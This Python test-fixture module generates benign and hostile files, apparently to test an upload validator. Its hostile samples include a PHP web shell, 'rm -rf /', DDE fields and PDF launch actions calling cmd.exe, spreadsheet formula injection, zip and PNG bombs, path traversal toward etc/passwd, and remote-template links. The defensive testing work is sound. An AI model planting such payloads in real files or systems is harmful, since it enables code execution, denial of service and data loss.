"""Files for download, sound and hostile, made when they are needed: each by a name that the inputs use."""

from __future__ import annotations

import struct
import zipfile
import zlib
from collections.abc import Callable
from io import BytesIO

from PIL import Image
from pypdf import PdfWriter
from pypdf.annotations import FreeText, Link
from pypdf.generic import DictionaryObject, NameObject, TextStringObject

_DAY = (2022, 2, 24, 0, 0, 0)
_WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
_OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_RELATIONS = "http://schemas.openxmlformats.org/package/2006/relationships"


def zipped(parts: dict[str, bytes | str], behind: bytes = b"", bombs: int = 0) -> bytes:
    """An archive of these parts, and of parts of 250 MB, something else behind it if asked."""
    out = BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(zipfile.ZipInfo(name, _DAY), content, zipfile.ZIP_DEFLATED)
        for _ in range(bombs):
            with archive.open("word/bomb.xml", "w", force_zip64=True) as part:
                for _ in range(250):
                    part.write(b" " * 1_000_000)
    return out.getvalue() + behind


def docx(body: str = "<w:p/>", behind: bytes = b"", **parts: bytes | str) -> bytes:
    """A Word document with this body; `parts` are named with `__` for `/` and `_dot_` for `.`."""
    sound: dict[str, bytes | str] = {
        "[Content_Types].xml": "<Types xmlns='http://schemas.openxmlformats.org/package/2006/content-types'/>",
        "word/document.xml": f"<w:document xmlns:w='{_WORD}'><w:body>{body}</w:body></w:document>",
    }
    return zipped(sound | {k.replace("__", "/").replace("_dot_", "."): v for k, v in parts.items()}, behind)


def relation(kind: str, target: str) -> str:
    """The list of relations of a part, with one that leads outside."""
    one = f"<Relationship Id='a' Type='{_OFFICE}/{kind}' Target='{target}' TargetMode='External'/>"
    return f"<Relationships xmlns='{_RELATIONS}'>{one}</Relationships>"


def odt(content: str = "<a/>", kind: str = "application/vnd.oasis.opendocument.text", **parts: str) -> bytes:
    """An OpenDocument text."""
    named = {k.replace("__", "/").replace("_dot_", "."): v for k, v in parts.items()}
    return zipped({"mimetype": kind, "content.xml": content, **named})


def pdf(change: Callable[[PdfWriter], None] | None = None) -> bytes:
    """A PDF of one empty page, changed."""
    writer = PdfWriter()
    writer.add_blank_page(200, 200)
    if change:
        change(writer)
    out = BytesIO()
    writer.write(out)
    return out.getvalue()


def _action(kind: str, **more: str) -> Callable[[PdfWriter], None]:
    def change(writer: PdfWriter) -> None:
        action = DictionaryObject({NameObject("/S"): NameObject(f"/{kind}")})
        for key, value in more.items():
            action[NameObject(f"/{key}")] = TextStringObject(value)
        writer.root_object[NameObject("/OpenAction")] = action

    return change


def _link(writer: PdfWriter) -> None:
    writer.add_annotation(0, Link(rect=(10, 10, 90, 90), url="https://exemple.be/"))


def _comment(writer: PdfWriter) -> None:
    writer.add_annotation(0, FreeText(text="Qui est ce client ?", rect=(10, 10, 90, 90)))


def _enclosing(writer: PdfWriter) -> None:
    writer.add_attachment("x.exe", b"MZ")


def _page_entry(name: str) -> Callable[[PdfWriter], None]:
    def change(writer: PdfWriter) -> None:
        writer.root_object[NameObject(name)] = DictionaryObject({NameObject("/X"): TextStringObject("x")})

    return change


def picture(kind: str = "PNG", size: tuple[int, int] = (4, 3), **options: object) -> bytes:
    """A small picture."""
    out = BytesIO()
    Image.new("RGB", size, (200, 30, 30)).save(out, format=kind, **options)
    return out.getvalue()


def png_bomb(side: int = 60_000) -> bytes:
    """A few bytes that announce a picture of thousands of millions of pixels."""

    def chunk(name: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))

    header = struct.pack(">IIBBBBB", side, side, 8, 2, 0, 0, 0)
    data = zlib.compress(b"\0" * 100_000)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", data) + chunk(b"IEND", b"")


def photo() -> bytes:
    """A photograph that tells where it was taken."""
    exif = Image.Exif()
    exif[0x010E] = "Chez Madame Untel"
    return picture("JPEG", exif=exif)


def animated(kind: str) -> bytes:
    """A picture of two frames."""
    frames = [Image.new("RGB", (4, 3), colour) for colour in ("red", "blue")]
    out = BytesIO()
    frames[0].save(out, format=kind, save_all=True, append_images=frames[1:], duration=100)
    return out.getvalue()


def xlsx(formula: str = "1+1", **parts: bytes | str) -> bytes:
    """A workbook with one formula."""
    cell = f"<worksheet><sheetData><row><c><f>{formula}</f></c></row></sheetData></worksheet>"
    named = {k.replace("__", "/").replace("_dot_", "."): v for k, v in parts.items()}
    return zipped({"xl/workbook.xml": "<workbook/>", "xl/worksheets/sheet1.xml": cell, **named})


def _piece(text: str) -> str:
    return f"<w:r><w:instrText>{text}</w:instrText></w:r>"


def _named_script(writer: PdfWriter) -> None:
    script = DictionaryObject({NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject("x")})
    writer.root_object[NameObject("/Names")] = DictionaryObject({NameObject("/JavaScript"): script})


def _action_of_a_page(writer: PdfWriter) -> None:
    action = DictionaryObject({NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject("x")})
    writer.pages[0][NameObject("/AA")] = DictionaryObject({NameObject("/O"): action})


def placed_photo() -> bytes:
    """A photograph that tells the latitude of a house."""
    exif = Image.Exif()
    exif.get_ifd(0x8825)[2] = (50.0, 50.0, 0.0)
    return picture("JPEG", exif=exif)


MADE: dict[str, Callable[[], bytes]] = {
    "pdf": pdf,
    "pdf that runs a script": lambda: pdf(_action("JavaScript", JS="app.alert(1)")),
    "pdf that starts a program": lambda: pdf(_action("Launch", F="cmd.exe")),
    "pdf that opens a file": lambda: pdf(_action("GoToR", F="//host/share")),
    "pdf that sends a form": lambda: pdf(_action("SubmitForm", F="https://x.be")),
    "pdf with a script address": lambda: pdf(_action("URI", URI="javascript:alert(1)")),
    "pdf with a good address": lambda: pdf(_link),
    "pdf that leads away when opened": lambda: pdf(_action("URI", URI="https://exemple.be/")),
    "pdf that prints when opened": lambda: pdf(_action("Named", N="Print")),
    "pdf and zip in one": lambda: pdf() + zipped({"x.txt": "x"}),
    "pdf with a file in it": lambda: pdf(_enclosing),
    "pdf with an active form": lambda: pdf(_page_entry("/XFA")),
    "pdf with actions of pages": lambda: pdf(_page_entry("/AA")),
    "pdf with a password": lambda: pdf(lambda w: w.encrypt("secret", algorithm="RC4-128")),
    "pdf with an author": lambda: pdf(lambda w: w.add_metadata({"/Author": "Jeanne Untel"})),
    "pdf with a comment": lambda: pdf(_comment),
    "pdf cut off": lambda: pdf()[:-200],
    "pdf with a page behind it": lambda: pdf() + b"<script>alert(1)</script>" * 200,
    "pdf of nothing": lambda: b"%PDF-1.7\n%%EOF\n",
    "pdf that refers to itself": lambda: (
        b"%PDF-1.4\n1 0 obj\n<</Type/Catalog/Pages 1 0 R/Kids[1 0 R]>>\nendobj\n"
        b"trailer\n<</Root 1 0 R/Size 2>>\nstartxref\n9\n%%EOF\n"
    ),
    "pdf behind a page": lambda: b"<html>" + pdf(),
    "docx": docx,
    "docx with macros": lambda: docx(word__vbaProject_dot_bin=b"x"),
    "docx with an object": lambda: docx(word__embeddings__oleObject1_dot_bin=b"x"),
    "docx with a remote template": lambda: docx(
        word___rels__settings_dot_xml_dot_rels=relation("attachedTemplate", "https://x.be/t.dotm")
    ),
    "docx with a remote picture": lambda: docx(
        word___rels__document_dot_xml_dot_rels=relation("image", "https://x.be/p.png")
    ),
    "docx with a link": lambda: docx(
        word___rels__document_dot_xml_dot_rels=relation("hyperlink", "https://exemple.be/")
    ),
    "docx with a field": lambda: docx("<w:p><w:r><w:instrText>DDEAUTO c:\\\\cmd.exe</w:instrText></w:r></w:p>"),
    "docx with entities": lambda: zipped(
        {
            "[Content_Types].xml": "<Types/>",
            "word/document.xml": "<!DOCTYPE a [<!ENTITY b 'x'><!ENTITY c '&b;&b;'>]><a>&c;</a>",
        }
    ),
    "docx with tracked changes": lambda: docx("<w:p><w:ins/><w:del/></w:p>"),
    "docx with hidden text": lambda: docx("<w:p><w:r><w:rPr><w:vanish/></w:rPr></w:r></w:p>"),
    "docx with comments": lambda: docx(
        word__comments_dot_xml=f"<w:comments xmlns:w='{_WORD}'><w:comment/></w:comments>"
    ),
    "docx with an author": lambda: docx(
        docProps__core_dot_xml="<c:p xmlns:c='x' xmlns:d='y'><d:creator>Jeanne</d:creator></c:p>"
    ),
    "docx that is a bomb": lambda: zipped({"word/document.xml": "<a/>"}, bombs=1),
    "docx with a page behind it": lambda: docx(behind=b"<script>alert(1)</script>"),
    "docx cut off": lambda: docx()[:-30],
    "docx that leaves its folder": lambda: docx("<w:p/>", b"", **{"..__..__etc__passwd": "x"}),
    "docx with a password": lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600,
    "docx without text": lambda: zipped({"a.txt": "x"}),
    "docx of five thousand parts": lambda: docx("<w:p/>", b"", **{f"word__{n}_dot_txt": "" for n in range(5001)}),
    "odt": odt,
    "odt with a program": lambda: odt(Basic__Standard__Module1_dot_xml="<a/>"),
    "odt with a listener": lambda: odt("<o:a xmlns:o='x'><o:event-listener/></o:a>"),
    "odt with a password": lambda: odt(
        "<a/>",
        "application/vnd.oasis.opendocument.text",
        **{"META-INF__manifest_dot_xml": "<m:a xmlns:m='x'><m:encryption-data/></m:a>"},
    ),
    "odt of another kind": lambda: odt(kind="application/zip"),
    "odt with changes": lambda: odt("<t:a xmlns:t='x'><t:tracked-changes/></t:a>"),
    "png": picture,
    "png that is a bomb": png_bomb,
    "png cut off": lambda: picture(size=(200, 200))[:-40],
    "png with a page behind it": lambda: picture() + b"<script>alert(1)</script>",
    "jpeg": lambda: picture("JPEG"),
    "photo": photo,
    "jpeg cut off": lambda: picture("JPEG", size=(300, 300))[:400],
    "webp": lambda: picture("WEBP"),
    "gif": lambda: picture("GIF"),
    "empty": lambda: b"",
    "html": lambda: b"<!doctype html><script>alert(1)</script>",
    "svg": lambda: b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>",
    "php": lambda: b"<?php system($_GET['c']); ?>",
    "program": lambda: b"MZ" + b"\0" * 200,
    "elf": lambda: b"\x7fELF" + b"\0" * 200,
    "shell": lambda: b"#!/bin/sh\nrm -rf /\n",
    "text": lambda: b"Madame, Monsieur,\n",
    "text with escapes": lambda: b"Madame\x1b]0;x\x07\n",
    "text in latin-1": lambda: "Été\n".encode("latin-1"),
    "text with a direction": "Madame \u202e,\n".encode,
    "table": lambda: b"nom,montant\nloyer,-12.50\n",
    "table with a formula": lambda: b"nom,montant\n=cmd|' /C calc'!A0,2\n",
    "table with a quoted formula": lambda: b'nom,montant\n"=HYPERLINK(""https://x.be"")",2\n',
    "pdf with named scripts": lambda: pdf(_named_script),
    "pdf with an action of a page": lambda: pdf(_action_of_a_page),
    "pdf with an owner's password": lambda: pdf(lambda w: w.encrypt("", "owner", algorithm="RC4-128")),
    "pdf and archive at once": lambda: pdf() + zipped({"a.txt": "x"}),
    "docx with a page in it": lambda: docx("<w:altChunk/>", word__afchunk_dot_mht="<script>alert(1)</script>"),
    "docx with a field in pieces": lambda: docx(f"<w:p>{_piece('DDE')}{_piece('AUTO c:cmd.exe')}</w:p>"),
    "docx with an archive in it": lambda: docx(word__media__a_dot_zip=zipped({"a.txt": "x"})),
    "docx of a template with macros": lambda: zipped(
        {
            "[Content_Types].xml": "<T><Override ContentType='application/vnd.ms-word.document.macroEnabled'/></T>",
            "word/document.xml": "<a/>",
        }
    ),
    "docx with remote sound": lambda: docx(
        word___rels__document_dot_xml_dot_rels=relation("audio", "file:///c:/x.wav")
    ),
    "docx with a remote subdocument": lambda: docx(
        word___rels__document_dot_xml_dot_rels=relation("subDocument", "//host/share/x.docx")
    ),
    "xlsx": xlsx,
    "xlsx that starts a program": lambda: xlsx("cmd|'/C calc'!A0"),
    "xlsx that asks a site": lambda: xlsx('WEBSERVICE("https://x.be")'),
    "xlsx with links outside": lambda: xlsx(xl__externalLinks__externalLink1_dot_xml="<a/>"),
    "xlsx with macros": lambda: xlsx(xl__vbaProject_dot_bin=b"x"),
    "pptx with a drawing": lambda: zipped({"ppt/presentation.xml": "<p/>", "ppt/media/a.svg": "<svg onload='x'/>"}),
    "moving png": lambda: animated("PNG"),
    "moving webp": lambda: animated("WEBP"),
    "moving gif": lambda: animated("GIF"),
    "tiff": lambda: picture("TIFF"),
    "icon": lambda: picture("ICO"),
    "bitmap": lambda: picture("BMP"),
    "photo of a place": placed_photo,
    "jpeg with a program behind it": lambda: picture("JPEG") + b"<?php system('id'); ?>",
    "table of one program": lambda: b"nom\n@SUM(1+1)*cmd|' /C calc'!A0\n",
    "table with a formula behind a blank": lambda: b"nom,montant\nx, =1+1\n",
    "table with tabs": lambda: b"nom\tmontant\nx\t=1+1\n",
    "table with a page": lambda: b"nom,montant\n<script>alert(1)</script>,2\n",
    "private key": lambda: b"-----BEGIN RSA PRIVATE KEY-----\nMIIB\n",
    "passwords": lambda: b"admin:$apr1$x$abcdefghijklmnop\n",
    "accounts": lambda: b"root:x:0:0:root:/root:/bin/sh\n",
    "settings of a server": lambda: b"AddType application/x-httpd-php .txt\n",
    "rtf": lambda: b"{\\rtf1 x}",
    "bytes": lambda: bytes(range(256)),
}
